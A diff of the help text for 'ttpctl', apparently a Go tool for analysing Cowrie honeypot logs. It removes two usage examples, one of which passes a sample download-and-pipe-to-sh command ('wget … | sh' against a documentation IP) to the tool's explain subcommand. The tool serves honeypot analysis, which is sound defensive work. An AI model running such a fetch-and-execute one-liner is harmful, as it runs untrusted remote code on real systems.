@@ -48,9 +48,7 @@ less (with LESS=FRX unless it is set); cat, an empty word or --no-pager is none.
 Exit codes: 0 done; 1 the answer is no; 2 could not run; 3 warnings only, where
 that was asked for; 4 broke midway; 130 and 143 on signals.`,
 		Example: `  ttpctl tag cowrie.json
-  ttpctl sessions cowrie.json
   ttpctl report html cowrie.json > report.html
-  ttpctl explain 'wget http://192.0.2.7/x.sh -O- | sh'
   ttpctl serve --follow /var/log/cowrie/cowrie.json`,
 		SilenceErrors:      true,
 		SilenceUsage:       true,
